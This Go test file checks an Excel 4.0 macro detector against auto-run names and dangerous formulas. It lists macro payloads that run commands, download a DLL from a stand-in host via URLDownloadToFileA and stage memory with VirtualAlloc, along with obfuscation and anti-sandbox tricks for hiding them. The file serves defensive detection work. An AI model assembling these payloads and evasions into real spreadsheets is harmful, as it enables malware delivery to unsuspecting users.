package xlm

import (
	"fmt"
	"strings"
	"testing"
)

// entrySpellings are names that Excel starts by itself.
var entrySpellings = []string{
	"Auto_Open", "auto_open", "AUTO_OPEN", "aUtO_oPeN", "Auto_Open1", "auto_openXYZ.2", "_xlnm.Auto_Open", "Auto_Close", "auto_closeNow", "Auto_Activate",
	"AUTO_DEACTIVATE", "Ａｕｔｏ＿Ｏｐｅｎ", "Au\u200Bto_Op\u00ADen", "Auto_Open\x00", "Áuto_Opén",
}

func TestEntriesInAnySpelling(t *testing.T) {
	for _, name := range entrySpellings {
		if Entry(name) == "" {
			t.Errorf("%q is no entry", name)
		}
	}
	for _, name := range []string{"Auto", "AutoOpen", "My_Auto_Open", "Print_Area", "", "_xlnm.Print_Titles", "Open"} {
		if e := Entry(name); e != "" {
			t.Errorf("%q is %s", name, e)
		}
	}
}

// payloads are dangerous formulas with what must be said of them.
var payloads = []struct{ formula, keyword, text string }{
	{`EXEC("cmd /c calc")`, "EXEC", `"cmd /c calc"`},
	{`CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.com/a.dll","..\a.ocx",0,0)`, "URLDownloadToFileA", `"http://example.com/a.dll","..\a.ocx"`},
	{`CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","calc.exe","",0,5)`, "ShellExecuteA", `"calc.exe"`},
	{`CALL("Kernel32","WinExec","JCJ","calc.exe",1)`, "WinExec", `"calc.exe"`},
	{`CALL("kernel32","VirtualAlloc","JJJJJ",0,4096,4096,64)`, "VirtualAlloc", `4096,64`},
	{`CALL("ntdll","RtlMoveMemory","JJCJ",1,"x",1)`, "RtlMoveMemory", `"x"`},
	{`CALL("kernel32","SomethingNew","J")`, "CALL", `SomethingNew`},
	{`REGISTER("Kernel32","CreateProcessA","JCC","Cp",,1,9)`, "CreateProcessA", `"Cp"`},
	{`CALL("C:\ProgramData\a.ocx","DllRegisterServer","J")`, "DllRegisterServer", `a.ocx`},
	{`INITIATE("cmd","/c calc")`, "INITIATE", `"/c calc"`},
	{`SEND.KEYS("cmd /c calc{ENTER}")`, "cmd /c", `calc`},
	{`VBA.INSERT.FILE("a.bas")`, "VBA.INSERT.FILE", `a.bas`},
}

// techniques are ways to make Excel run a formula: cells of the macro sheet whose Auto_Open is A1.
var techniques = []struct {
	name string
	make func(formula string) []string
}{
	{"as it is", func(f string) []string { return []string{"A1: =" + f} }},
	{"behind a condition that holds", func(f string) []string { return []string{`A1: =IF(1<2,` + f + `,HALT())`} }},
	{"behind a question to the machine", func(f string) []string {
		return []string{`A1: =IF(GET.WORKSPACE(19)=FALSE,CLOSE(FALSE))`, `A2: =IF(GET.WINDOW(20),,HALT())`, `A3: =` + f}
	}},
	{"in the branch not taken at first", func(f string) []string {
		return []string{`A1: =IF(GET.WORKSPACE(42))`, `A2: =HALT()`, `A3: =ELSE.IF(GET.WORKSPACE(19))`, `A4: =` + f, `A5: =END.IF()`}
	}},
	{"characters, written and run", func(f string) []string { return []string{`A1: =FORMULA(` + spelled("="+f, 97) + `,A2)`, `A3: =HALT()`} }},
	{"characters in cells, filled and run", func(f string) []string {
		cells := []string{`A1: =FORMULA.FILL(Z1,A2)`, `A3: =HALT()`}
		return append(cells, inColumn("="+f)...)
	}},
	{"reversed in a loop", func(f string) []string {
		return []string{`B1: ` + reverse("="+f), `A1: =s=""`, `A2: =FOR("i",LEN(B1),1,-1)`, `A3: =s=s&MID(B1,i,1)`, `A4: =NEXT()`, `A5: =FORMULA(s,A6)`}
	}},
	{"codes shifted, in a loop over cells", func(f string) []string {
		cells := []string{`A1: =s=""`, `A2: =FOR.CELL("c",Y1:Y` + fmt.Sprint(len(f)+1) + `)`, `A3: =s=s&CHAR(c-3)`, `A4: =NEXT()`, `A5: =FORMULA(s,A6)`}
		for i, c := range "=" + f {
			cells = append(cells, fmt.Sprintf("Y%d: %d", i+1, c+3))
		}
		return cells
	}},
	{"a macro that gives it back", func(f string) []string {
		return []string{`A1: =FORMULA(C1("` + double("="+f) + `"),A2)`, `A3: =HALT()`, `C1: =ARGUMENT("a")`, `C2: =RETURN(LEFT(a,3)&MID(a,4,9999))`}
	}},
	{"far away, in another column", func(f string) []string {
		return []string{`A1: =GOTO(INDIRECT("R7C4",FALSE))`, `D7: =SET.VALUE(E1,"` + double("="+f) + `")`, `D8: =FORMULA(E1,D9)`}
	}},
	{"text with pieces replaced", func(f string) []string {
		return []string{`A1: =FORMULA(SUBSTITUTE("` + double(strings.ReplaceAll("="+f, "l", "~")) + `","~","l"),A2)`}
	}},
	{"a name's text", func(f string) []string {
		return []string{`A1: =SET.NAME("n","` + double("="+f) + `")`, `A2: =FORMULA(n,A3)`}
	}},
	{"evaluated", func(f string) []string {
		return []string{`A1: =EVALUATE("` + double(f[:2]) + `"&"` + double(f[2:]) + `")`}
	}},
	{"run by a timer", func(f string) []string {
		return []string{`A1: =ON.TIME(NOW()+1,"R1C3")`, `A2: =HALT()`, `C1: =FORMULA("="&"` + double(f) + `",C2)`}
	}},
	{"never reached", func(f string) []string { return []string{`A1: =HALT()`, `F5: =` + f} }},
}

func double(s string) string { return strings.ReplaceAll(s, `"`, `""`) }

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

// spelled is an expression of CHARs for a text.
func spelled(s string, most int) string {
	var parts []string
	for i := range len(s) {
		parts = append(parts, fmt.Sprintf("CHAR(%d+%d)", int(s[i])-most%7, most%7))
	}
	return strings.Join(parts, "&")
}

// inColumn are cells of column Y that each add a letter to the one above, joined in Z1.
func inColumn(s string) []string {
	var cells, refs []string
	for i := range len(s) {
		cells = append(cells, fmt.Sprintf("Y%d: =CHAR(%d)", i+1, s[i]))
		refs = append(refs, fmt.Sprintf("Y%d", i+1))
	}
	return append(cells, "Z1: ="+strings.Join(refs, "&"))
}

// Every entry point, every technique, every payload: each must be found, and shown worked out.
func TestEveryEntryWithEveryTechniqueAndEveryPayload(t *testing.T) {
	for _, way := range techniques {
		for _, p := range payloads {
			w := &Workbook{Sheets: []Sheet{sheetOf(t, "Macro1", way.make(p.formula)...)}}
			for i, name := range entrySpellings {
				w.Names = []Name{{Name: name, Formula: []string{"Macro1!$A$1", "'Macro1'!A1", "Macro1!$A$1:$A$1"}[i%3], Sheet: i%2 - 1}}
				r := judged(t, w)
				if len(r.Autoexec) != 1 || !found(r, p.keyword, p.text) {
					t.Errorf("%q, %s, %s: %+v, %+v", name, way.name, p.formula, r.Autoexec, r.Suspicious)
				}
			}
		}
	}
}
